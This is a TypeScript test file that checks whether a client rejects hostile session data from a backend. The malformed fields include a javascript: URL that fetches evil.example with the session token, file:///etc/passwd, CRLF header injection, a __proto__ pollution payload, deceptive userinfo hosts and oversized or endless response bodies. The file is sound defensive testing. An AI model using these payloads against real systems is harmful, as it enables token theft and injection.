// The fields of what a backend answers, each as hostile as it can be.
import { json } from "../testbed/simulation";
import { attacks } from "./rows";
import { refusedAsInvalid, session, TOKEN, withSession, type Changes } from "./sessionRig";

attacks<unknown>(
  "the URL of a session",
  {
    "a script": `javascript:fetch('https://evil.example/?${TOKEN}')`,
    "a script in capitals": "JavaScript:alert(1)",
    "a script behind a line break": "java\nscript:alert(1)",
    data: "data:text/html,<script>alert(1)</script>",
    "a blob": "blob:https://sandbox.example/1",
    "a file": "file:///etc/passwd",
    "a socket": "wss://sandbox.example",
    "plain http": "http://sandbox.example",
    "plain http to an address": "http://192.168.1.5",
    "plain http to what begins like loopback": "http://127.0.0.1.evil.example",
    "plain http to localhost with a name behind it": "http://localhost.evil.example",
    "plain http to a number": "http://2130706433.evil.example",
    "a user": "https://user@sandbox.example",
    "a user that looks like the host": "https://sandbox.example@evil.example",
    "a user and a password": `https://user:${TOKEN}@sandbox.example`,
    "no host": "https://",
    "a path": "/s/1",
    "a host without a scheme": "//sandbox.example",
    "a space": "https://sandbox.example /s",
    "a tab": "https://sandbox.example\t/s",
    "a port that is none": "https://sandbox.example:99999",
    nothing: "",
    "a number": 7,
    "an object": { href: "https://sandbox.example", toString: 1 },
    "a list of one": ["https://sandbox.example"],
    null: null,
    true: true,
  },
  (url) => refusedAsInvalid(() => withSession({ url })),
);

attacks<unknown>(
  "the token of a session",
  {
    "a line break": `${TOKEN}\r\nX-Evil: 1`,
    "a NUL": `${TOKEN}\0`,
    "a space": `${TOKEN} x`,
    "a letter beyond ASCII": `${TOKEN}ü`,
    "right to left": `\u202e${TOKEN}`,
    nothing: "",
    spaces: "   ",
    "a number": 4711,
    "an object": { value: TOKEN },
    "a list": [TOKEN],
    null: null,
  },
  (token) => refusedAsInvalid(() => withSession({ token })),
);

attacks<unknown>(
  "the end of a session",
  {
    seconds: 1_893_500_000,
    "1970": "1970-01-01T00:00:00Z",
    "the year 9999": "9999-12-31T23:59:59Z",
    "beyond all years": "+275760-09-14T00:00:00Z",
    "no date": "soon",
    nothing: "",
    "an object": {},
    "a list": ["2030-01-01"],
    null: null,
    "a date of the token": TOKEN,
  },
  (expiresAt) => refusedAsInvalid(() => withSession({ expiresAt })),
);

attacks<Changes>(
  "a number or a date beside the session",
  {
    "no time left": { expires_in: 0 },
    "less than no time": { expires_in: -1 },
    "a time that is a text": { expires_in: "3600" },
    "a time in a list": { expires_in: [3600] },
    "a renewal before it began": { refresh_in: -5 },
    "a renewal that is a text": { refresh_in: "soon" },
    "a clock that is none": { server_time: "noon" },
    "a clock of 1970": { server_time: "1970-01-01T00:00:00Z" },
    "a clock that is a number": { server_time: 1_893_456_000_000 },
    "a clock that is an object": { server_time: { now: TOKEN } },
  },
  (more) => refusedAsInvalid(() => withSession({}, more)),
);

attacks<unknown>(
  "previews",
  {
    "a list": [{ url: "https://app.example" }],
    "a text": "https://app.example",
    "a preview that is a text": { app: "https://app.example" },
    "a preview that is null": { app: null },
    "a preview of a script": { app: { url: "javascript:alert(1)" } },
    "a preview of plain http": { app: { url: "http://app.example" } },
    "a preview with a user": { app: { url: `https://user:${TOKEN}@app.example` } },
    "a preview of nothing": { app: {} },
    "a token of a line break": { app: { url: "https://app.example", token: `${TOKEN}\n` } },
    "a token that is a number": { app: { url: "https://app.example", token: 7 } },
    "a token without an end in time": {
      app: { url: "https://app.example", token: TOKEN, expires_at: "9999-01-01T00:00:00Z" },
    },
    "one good one and a bad one": {
      app: { url: "https://app.example" },
      evil: { url: "data:text/html,hi" },
    },
    "a bad one under a name that objects know": JSON.parse(
      '{"__proto__":{"url":"javascript:alert(1)"}}',
    ),
  },
  (previews) => refusedAsInvalid(() => withSession({}, { previews })),
);

attacks<() => unknown>(
  "a body that is no answer",
  {
    nothing: () => new Response(""),
    "HTML with the token": () =>
      new Response(`<!doctype html><p>${TOKEN}`, { headers: { "Content-Type": "text/html" } }),
    "a text with the token": () => new Response(`token=${TOKEN}`),
    null: () => json(null),
    "a list": () => json([{ session }]),
    "a number": () => json(7),
    "another shape": () => json({ data: { session } }),
    "a session that is a list": () => json({ session: [session] }),
    "a session under a name that objects know": () =>
      new Response(`{"__proto__":{"session":${JSON.stringify(session)}}}`),
    "2 MB": () => new Response(`"${"x".repeat(2_000_000)}"`),
    "brackets without end": () => new Response(`${"[".repeat(400_000)}${"]".repeat(400_000)}`),
    "bytes that are none": () => new Response(new Uint8Array([0xff, 0xfe, 0, 0x80])),
    "a body that never ends": () =>
      new Response(
        new ReadableStream({ pull: (controller) => controller.enqueue(new Uint8Array(65_536)) }),
      ),
  },
  refusedAsInvalid,
);
